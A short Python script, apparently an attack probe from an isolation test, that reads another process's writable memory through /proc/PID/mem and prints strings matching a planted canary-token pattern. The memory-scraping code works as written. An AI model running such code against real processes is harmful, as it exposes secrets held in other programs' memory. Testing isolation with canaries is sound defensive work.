"""Searches the writable memory of another process."""

import re


def attack(facts: dict[str, str]) -> None:
    pid = facts["bait"]
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            first, last = (int(number, 16) for number in line.split()[0].split("-"))
            if " rw" in line and last - first < 1 << 24:
                try:
                    memory.seek(first)
                    print(re.findall(rb"canary-[0-9a-f]{32}", memory.read(last - first)))
                except OSError:
                    continue
